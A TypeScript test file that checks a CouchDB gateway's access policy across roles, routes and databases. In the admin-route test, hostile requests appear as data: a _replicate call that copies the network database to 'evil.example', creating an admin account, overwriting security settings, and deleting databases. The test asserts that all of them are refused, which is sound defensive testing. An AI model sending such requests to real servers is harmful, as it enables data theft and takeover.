import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { newDocId, ulid } from '../domain/ids';
import { projectRequestId } from '../domain/project';
import { glossaryDoc } from './fuzz/glossary-docs';
import { plant, storeName } from './fuzz/plant';
import { projectDoc } from './fuzz/project-docs';
import { PNG_BASE64 } from './fuzz/secrets';
import { backendLocalId } from './routes/db-checkpoints';
import { useTestGateway, type Json } from '../../../tests/support/gateway';
import {
	asNew,
	PRINCIPALS,
	requestAs,
	revisionOf,
	SIGNED_IN,
	writeAs,
	WRITE_ROUTES,
	type Principal,
	type WriteRoute
} from '../../../tests/support/matrix';
import { idea } from '../../../tests/support/raw-docs';
import { TEST_BACKENDS } from '../../../tests/support/test-backends';

/**
 * The proof of the access policy: every principal × every route × every database, asserting access exactly
 * where docs/SECURITY.md says and none elsewhere (the measures' counts: matrix-measures.test.ts). The expectations are written out here by hand, not read
 * from policy.ts, so a change to the policy has to be made in both places.
 */

const DBS = ['network', 'signups', 'coproduce-accounts', 'coproduce-sessions', 'nosuchdb'] as const;
type Db = (typeof DBS)[number];

/** Who may read each database (pull replication). */
const READERS: Record<Db, readonly Principal[]> = {
	network: ['member', 'chair', 'recruiter', 'staff', 'coordinator'],
	signups: ['coordinator'],
	'coproduce-accounts': [],
	'coproduce-sessions': [],
	nosuchdb: []
};
/** Who may write documents and checkpoints to each database (push replication). */
const WRITERS: Record<Db, readonly Principal[]> = {
	network: ['member', 'chair', 'recruiter', 'staff', 'coordinator'],
	signups: [],
	'coproduce-accounts': [],
	'coproduce-sessions': [],
	nosuchdb: []
};

/** Text that must never appear in an answer that is not granted. */
const SECRETS: Record<Db, string> = {
	network: 'SECRET-network-7f3a',
	signups: 'SECRET-signups-91c2',
	'coproduce-accounts': 'SECRET-accounts-44d0',
	'coproduce-sessions': 'SECRET-sessions-0b7e',
	nosuchdb: 'SECRET-none'
};
const ALWAYS_SECRET = ['passwordHash', 'scrypt$', 'SECRET-local-raw'];

/**
 * Who may write each kind of project document in their own name on the network database, on a project
 * member leads with only member on its team: anyone sets up a project they lead, coordinators one for
 * someone else; the lead and coordinators change it; anyone asks to join; the team and coordinators add
 * PDSA cycles and figures. Only coordinators add to and change the glossary. Staff are members who are
 * not on the team: they may do what chair and recruiter may.
 */
const TYPE_WRITERS: Record<string, readonly Principal[]> = {
	'a project they lead': ['member', 'chair', 'recruiter', 'staff', 'coordinator'],
	'a project someone else leads': ['coordinator'],
	"a change to member's project": ['member', 'coordinator'],
	'a request to join': ['member', 'chair', 'recruiter', 'staff', 'coordinator'],
	'a PDSA cycle': ['member', 'coordinator'],
	'a figure': ['member', 'coordinator'],
	'a glossary term': ['coordinator'],
	"a change to coordinator's glossary term": ['coordinator']
};

describe.each(TEST_BACKENDS)('access matrix over the $kind backend', ({ kind }) => {
	const gateway = useTestGateway(kind, 'matrix', { signIn: SIGNED_IN });
	/** The planted document of each database (the private ones get a marker document). */
	let docIds: Record<Db, string>;

	function request(path: string, principal: Principal, init: RequestInit = {}): Promise<Response> {
		return requestAs(gateway, path, principal, init);
	}

	function backendName(db: Db): string {
		return db === 'nosuchdb' ? db : storeName(gateway.server.internals.names, db);
	}

	async function backendRows(db: Db): Promise<string> {
		const { couch } = gateway.server.internals;
		const res = await couch.request('GET', couch.url(backendName(db), '_all_docs?include_docs=true'));
		return JSON.stringify(res.body);
	}

	beforeAll(async () => {
		// Checkpoints: one per account in each database, and one outside anyone's namespace.
		const planted = await plant(gateway.server.internals, {
			texts: SECRETS,
			rawCheckpoint: 'SECRET-local-raw',
			checkpoints: (db) =>
				Object.fromEntries(PRINCIPALS.slice(1).map((name) => [name, `LOCAL-${db}-${name}`]))
		});
		docIds = { ...planted, nosuchdb: 'idea:01ARZ3NDEKTSV4RRFFQ69G5FAV' };
	});

	/** Everything that is someone's to read: the secrets of every database, and others' checkpoints. */
	function forbiddenText(principal: Principal, db: Db, granted: boolean): string[] {
		const texts = [...ALWAYS_SECRET];
		for (const other of DBS) if (other !== db || !granted) texts.push(SECRETS[other]);
		for (const d of DBS) {
			for (const p of PRINCIPALS)
				if (!(granted && d === db && p === principal)) texts.push(`LOCAL-${d}-${p}`);
		}
		return texts;
	}

	function refusalStatus(principal: Principal, db: Db): number {
		if (principal === 'anonymous') return 401;
		if (db === 'network' || db === 'signups') return 403;
		return 404;
	}

	const READ_ROUTES: Array<{
		name: string;
		request: (db: Db, id: string) => [string, RequestInit];
		/** What a granted answer shows (undefined: no route grants it). */
		granted?: (body: string, db: Db, principal: Principal, res: Response) => void;
	}> = [
		{
			name: 'GET /db/<db>/',
			request: (db) => [`/db/${db}/`, {}],
			granted: (body) => expect(JSON.parse(body)).toHaveProperty('doc_count')
		},
		{
			name: 'GET _all_docs',
			request: (db) => [`/db/${db}/_all_docs?include_docs=true`, {}],
			granted: (body, db) => expect(body).toContain(SECRETS[db])
		},
		{
			name: 'GET _changes',
			request: (db) => [`/db/${db}/_changes?include_docs=true&style=all_docs`, {}],
			granted: (body, db) => expect(body).toContain(SECRETS[db])
		},
		{
			name: 'POST _bulk_get',
			request: (db, id) => [
				`/db/${db}/_bulk_get?revs=true`,
				{ method: 'POST', body: JSON.stringify({ docs: [{ id }] }) }
			],
			granted: (body, db) => expect(body).toContain(SECRETS[db])
		},
		{
			name: 'POST _find',
			request: (db) => [`/db/${db}/_find`, { method: 'POST', body: JSON.stringify({ selector: {} }) }]
		},
		{
			name: 'POST _revs_diff',
			request: (db, id) => [
				`/db/${db}/_revs_diff`,
				{ method: 'POST', body: JSON.stringify({ [id]: ['1-abc'] }) }
			],
			granted: (body, _db, _p, res) => {
				expect(res.status).toBe(200);
				expect(body).toContain('missing');
			}
		},
		{
			name: 'GET _local/x',
			request: (db) => [`/db/${db}/_local/x`, {}],
			granted: (body, db, principal) => {
				const doc = JSON.parse(body) as Json;
				expect(doc.note).toBe(`LOCAL-${db}-${principal}`);
				expect(doc._id).toBe('_local/x');
			}
		},
		{
			name: 'GET /<docid>',
			request: (db, id) => [`/db/${db}/${encodeURIComponent(id)}`, {}],
			granted: (body, db) => expect(body).toContain(SECRETS[db])
		},
		{
			name: 'GET /<docid>/<attachment>',
			request: (db, id) => [`/db/${db}/${encodeURIComponent(id)}/photo.png`, {}],
			granted: (body, _db, _p, res) => {
				expect(res.headers.get('content-type')).toBe('image/png');
				expect(res.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
				expect(body.length).toBeGreaterThan(0);
			}
		}
	];

	it('grants every read route exactly where the policy says, and shows nothing elsewhere', async () => {
		const checked: string[] = [];
		for (const route of READ_ROUTES) {
			for (const db of DBS) {
				for (const principal of PRINCIPALS) {
					const [path, init] = route.request(db, docIds[db]);
					const res = await request(path, principal, init);
					const body = await res.text();
					const granted = route.granted !== undefined && READERS[db].includes(principal);
					const where = `${principal} ${route.name} on ${db}: ${res.status} ${body.slice(0, 200)}`;
					if (granted) {
						expect(res.status, where).toBeLessThan(300);
						route.granted?.(body, db, principal, res);
					} else {
						const expected =
							route.granted === undefined && principal !== 'anonymous' && READERS[db].length
								? 403
								: refusalStatus(principal, db);
						expect(res.status, where).toBe(expected);
						expect(JSON.parse(body) as Json, where).toHaveProperty('error');
					}
					for (const text of forbiddenText(principal, db, granted)) expect(body, where).not.toContain(text);
					checked.push(`${principal}:${db}:${route.name}:${granted ? 'yes' : 'no'}`);
				}
			}
		}
		expect(checked).toHaveLength(READ_ROUTES.length * DBS.length * PRINCIPALS.length);
		// Six principals × nine routes × five databases; eight routes granted on network to everyone signed
		// in (five), and on signups to the coordinator only.
		expect(checked.filter((c) => c.endsWith(':yes'))).toHaveLength(8 * 5 + 8);
	});

	it('serves an attachment that is not an allowed image as a sandboxed download', async () => {
		const res = await request(`/db/network/${encodeURIComponent(docIds.network)}/page.html`, 'member');
		expect(res.status).toBe(200);
		expect(res.headers.get('content-type')).toBe('application/octet-stream');
		expect(res.headers.get('content-disposition')).toBe('attachment');
		expect(res.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
	});

	it('grants every write route exactly where the policy says, and writes nothing elsewhere', async () => {
		const before = Object.fromEntries(
			await Promise.all(
				(['signups', 'coproduce-accounts', 'coproduce-sessions'] as const).map(
					async (db) => [db, await backendRows(db)] as const
				)
			)
		);
		for (const db of DBS) {
			for (const principal of PRINCIPALS) {
				const author = principal === 'anonymous' ? 'member' : principal;
				const doc = (title: string): Json => idea(author, title);
				const granted = WRITERS[db].includes(principal);
				const where = (route: string, res: Response, body: string) =>
					`${principal} ${route} on ${db}: ${res.status} ${body.slice(0, 200)}`;
				const refused = async (route: string, res: Response) => {
					const body = await res.text();
					expect(res.status, where(route, res, body)).toBe(refusalStatus(principal, db));
					for (const text of forbiddenText(principal, db, false)) expect(body).not.toContain(text);
				};

				const bulk = await request(`/db/${db}/_bulk_docs`, principal, {
					method: 'POST',
					body: JSON.stringify({ docs: [doc('Bulk')] })
				});
				if (granted) {
					const results = (await bulk.json()) as Json[];
					expect(bulk.status).toBe(201);
					expect(results[0]?.ok, JSON.stringify(results)).toBe(true);
				} else await refused('_bulk_docs', bulk);

				const replicated = { ...doc('Replicated'), _rev: '1-0123456789abcdef0123456789abcdef' };
				const noEdits = await request(`/db/${db}/_bulk_docs`, principal, {
					method: 'POST',
					body: JSON.stringify({ docs: [replicated], new_edits: false })
				});
				if (granted) {
					expect(noEdits.status).toBe(201);
					expect(await noEdits.json()).toEqual([]);
				} else await refused('_bulk_docs new_edits:false', noEdits);

				const own = doc('Put');
				const put = await request(`/db/${db}/${encodeURIComponent(String(own._id))}`, principal, {
					method: 'PUT',
					body: JSON.stringify(own)
				});
				let rev = '1-x';
				if (granted) {
					expect(put.status).toBe(201);
					rev = String(((await put.json()) as Json).rev);
				} else await refused('PUT /<docid>', put);

				const upload = await request(
					`/db/${db}/${encodeURIComponent(String(own._id))}/photo.png?rev=${rev}`,
					principal,
					{
						method: 'PUT',
						headers: { 'content-type': 'image/png' },
						body: new Uint8Array(Buffer.from(PNG_BASE64, 'base64'))
					}
				);
				if (granted) {
					// The policy lets the request through; the attachment rules refuse it (no bare uploads).
					expect(upload.status).toBe(403);
					expect(((await upload.json()) as Json).reason).toBe('Attachments are sent inside their document');
				} else await refused('PUT /<docid>/<attachment>', upload);

				const checkpoint = await request(`/db/${db}/_local/w`, principal, {
					method: 'PUT',
					body: JSON.stringify({ _id: '_local/w', last_seq: '7' })
				});
				if (granted) {
					expect(checkpoint.status).toBe(201);
					expect(((await checkpoint.json()) as Json).id).toBe('_local/w');
				} else await refused('PUT _local/w', checkpoint);

				const remove = await request(
					`/db/${db}/${encodeURIComponent(String(own._id))}?rev=${encodeURIComponent(rev)}`,
					principal,
					{ method: 'DELETE' }
				);
				if (granted) expect(remove.status).toBe(200);
				else await refused('DELETE /<docid>', remove);
			}
		}
		// Nothing reached the databases nobody may write.
		for (const [db, rows] of Object.entries(before)) expect(await backendRows(db as Db)).toBe(rows);
		// The raw checkpoint outside every namespace is untouched; each account wrote its own.
		const network = await backendRows('network');
		expect(network).not.toContain('nosuchdb');
		const raw = await gateway.server.internals.couch.get(backendName('network'), '_local/x');
		expect(raw?.note).toBe('SECRET-local-raw');
		const mine = await gateway.server.internals.couch.get(
			backendName('network'),
			backendLocalId('recruiter', 'w')
		);
		expect(mine?.last_seq).toBe('7');
		const read = await request('/db/network/_local/w', 'recruiter');
		expect(((await read.json()) as Json)._id).toBe('_local/w');
		expect((await request('/db/network/_local/w', 'anonymous')).status).toBe(401);
		// An account with no checkpoint of that name reads an empty one (so a first sync logs no 404).
		const none = await request('/db/network/_local/never-written', 'member');
		expect(none.status).toBe(200);
		expect(await none.json()).toEqual({ _id: '_local/never-written', history: [] });
	});

	const write = (route: WriteRoute, principal: Principal, doc: Json) =>
		writeAs(gateway, route, principal, doc);

	it('grants each project document type and glossary terms exactly where the policy says, on every write route', async () => {
		const { couch } = gateway.server.internals;
		const checked: string[] = [];
		for (const route of WRITE_ROUTES) {
			const replicated = route === '_bulk_docs new_edits:false';
			const ref = { projectId: newDocId('project'), measureId: ulid() };
			const project = {
				...projectDoc('project', 'member', ref.projectId, ref),
				membersFirstInvolved: 'problem',
				team: [{ name: 'member', kind: 'member', level: 'big-i', joinedAt: 'problem' }],
				measures: [{ id: ref.measureId, name: 'Median handover time', better: 'lower' }]
			};
			expect(await write('PUT /<docid>', 'member', project)).toMatchObject({ written: true });
			const termId = newDocId('glossary-term');
			const term = glossaryDoc('coordinator', termId, 'HALO');
			expect(await write('PUT /<docid>', 'coordinator', term)).toMatchObject({ written: true });
			for (const principal of PRINCIPALS) {
				const author = principal === 'anonymous' ? 'member' : principal;
				const current = (await couch.get(backendName('network'), ref.projectId)) as Json;
				const currentTerm = (await couch.get(backendName('network'), termId)) as Json;
				const docs: Record<string, Json> = {
					'a project they lead': projectDoc('project', author, newDocId('project'), ref),
					'a project someone else leads': projectDoc(
						'project',
						author,
						newDocId('project'),
						ref,
						author === 'recruiter' ? 'chair' : 'recruiter'
					),
					"a change to member's project": revisionOf(
						{ ...current, serviceArea: `Changed by ${principal}` },
						current,
						replicated
					),
					'a request to join': projectDoc(
						'project-request',
						author,
						projectRequestId(ref.projectId, author),
						ref
					),
					'a PDSA cycle': projectDoc('pdsa', author, newDocId('pdsa'), ref),
					'a figure': projectDoc('data-point', author, newDocId('data-point'), ref),
					'a glossary term': glossaryDoc(author, newDocId('glossary-term')),
					"a change to coordinator's glossary term": revisionOf(
						{ ...currentTerm, meaning: `Changed by ${principal}` },
						currentTerm,
						replicated
					)
				};
				for (const [what, writers] of Object.entries(TYPE_WRITERS)) {
					const doc = asNew(docs[what] ?? {}, route);
					const { written, status, reason } = await write(route, principal, doc);
					const where = `${principal} writing ${what} through ${route}: ${status} ${String(reason)}`;
					expect(written, where).toBe(writers.includes(principal));
					if (principal === 'anonymous') expect(status, where).toBe(401);
					else if (!written) expect(reason, where).toEqual(expect.any(String));
					checked.push(`${route}:${principal}:${what}:${written ? 'yes' : 'no'}`);
				}
			}
		}
		const kinds = Object.keys(TYPE_WRITERS).length;
		expect(checked).toHaveLength(WRITE_ROUTES.length * PRINCIPALS.length * kinds);
		const granted = Object.values(TYPE_WRITERS).reduce((sum, writers) => sum + writers.length, 0);
		expect(checked.filter((c) => c.endsWith(':yes'))).toHaveLength(WRITE_ROUTES.length * granted);
	});

	it('refuses _local ids smuggled into other routes', async () => {
		const attempts: Array<[string, RequestInit]> = [
			['/db/network/_all_docs?keys=' + encodeURIComponent('["_local/chair:x"]'), {}],
			['/db/network/_all_docs', { method: 'POST', body: JSON.stringify({ keys: ['_local/chair:x'] }) }],
			[
				'/db/network/_bulk_get',
				{ method: 'POST', body: JSON.stringify({ docs: [{ id: '_local/chair:x' }] }) }
			],
			['/db/network/_revs_diff', { method: 'POST', body: JSON.stringify({ '_local/chair:x': ['1-a'] }) }],
			['/db/network/_changes?filter=_doc_ids&doc_ids=' + encodeURIComponent('["_local/chair:x"]'), {}],
			['/db/network/_local%2Fchair:x', {}],
			['/db/network/_local/chair:x/y', {}],
			['/db/network/_local/x', { method: 'DELETE' }]
		];
		for (const [path, init] of attempts) {
			const res = await request(path, 'member', init);
			const body = await res.text();
			expect(res.status, `${path}: ${body}`).toBe(403);
			expect(body).not.toContain('LOCAL-network-chair');
		}
	});

	it('refuses admin and configuration routes to every role, coordinators included, and stays up', async () => {
		const routes: Array<[string, string, string?]> = [
			['GET', '/db/_config'],
			['PUT', '/db/_config/admins/eve', '"pw"'],
			['GET', '/db/_node/_local/_config'],
			['GET', '/db/_utils/'],
			['POST', '/db/_replicate', JSON.stringify({ source: 'network', target: 'http://evil.example/x' })],
			['GET', '/db/_all_dbs'],
			['GET', '/db/_users'],
			['PUT', '/db/_users/org.couchdb.user:eve', JSON.stringify({ name: 'eve', roles: ['_admin'] })],
			['GET', '/db/_session'],
			['PUT', '/db/network/_security', JSON.stringify({ admins: {}, members: {} })],
			['GET', '/db/network/_security'],
			['PUT', '/db/signups/_security', JSON.stringify({ admins: {}, members: {} })],
			['PUT', '/db/network/_design/x', JSON.stringify({ validate_doc_update: 'function(){}' })],
			['POST', '/db/network/_bulk_docs', JSON.stringify({ docs: [{ _id: '_design/x', views: {} }] })],
			['PUT', '/db/newdb'],
			['PUT', '/db/network'],
			['DELETE', '/db/network'],
			['DELETE', '/db/signups'],
			['POST', '/db/network/_purge', '{}'],
			['POST', '/db/network/_compact', '{}'],
			['PUT', '/db/network/_revs_limit', '1']
		];
		for (const principal of PRINCIPALS) {
			for (const [method, path, body] of routes) {
				const res = await request(path, principal, { method, body });
				const text = await res.text();
				const where = `${principal} ${method} ${path}: ${res.status} ${text}`;
				if (principal === 'anonymous') expect(res.status, where).toBe(401);
				else if (path.startsWith('/db/newdb')) expect(res.status, where).toBe(404);
				else if (path === '/db/network/_bulk_docs') {
					expect(res.status, where).toBe(201);
					expect(text).toContain('Design documents cannot be written');
				} else expect([403, 404], where).toContain(res.status);
			}
		}
		expect(existsSync(join(gateway.options.dataDir, 'newdb'))).toBe(false);
		expect((await request('/api/health', 'anonymous')).status).toBe(200);
		expect((await request('/db/network/', 'coordinator')).status).toBe(200);
		const security = await gateway.server.internals.couch.request(
			'GET',
			gateway.server.internals.couch.url(backendName('network'), '_design/x')
		);
		expect(security.status).toBe(404);
	});

	it('lists exactly the readable databases in the session', async () => {
		for (const principal of PRINCIPALS) {
			const res = await request('/api/session', principal);
			if (principal === 'anonymous') {
				expect(res.status).toBe(401);
				continue;
			}
			const info = (await res.json()) as { databases: string[] };
			expect(info.databases).toEqual(DBS.filter((db) => READERS[db].includes(principal)));
		}
	});
});
